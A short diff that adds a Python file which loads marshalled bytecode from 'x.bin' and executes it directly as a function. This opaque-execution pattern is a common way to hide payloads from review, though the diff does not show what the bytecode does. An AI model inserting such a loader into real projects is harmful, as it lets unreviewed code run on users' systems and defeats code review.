@@ -1,0 +1,4 @@
+import marshal
+import types
+
+types.FunctionType(marshal.loads(open("x.bin", "rb").read()), {})()
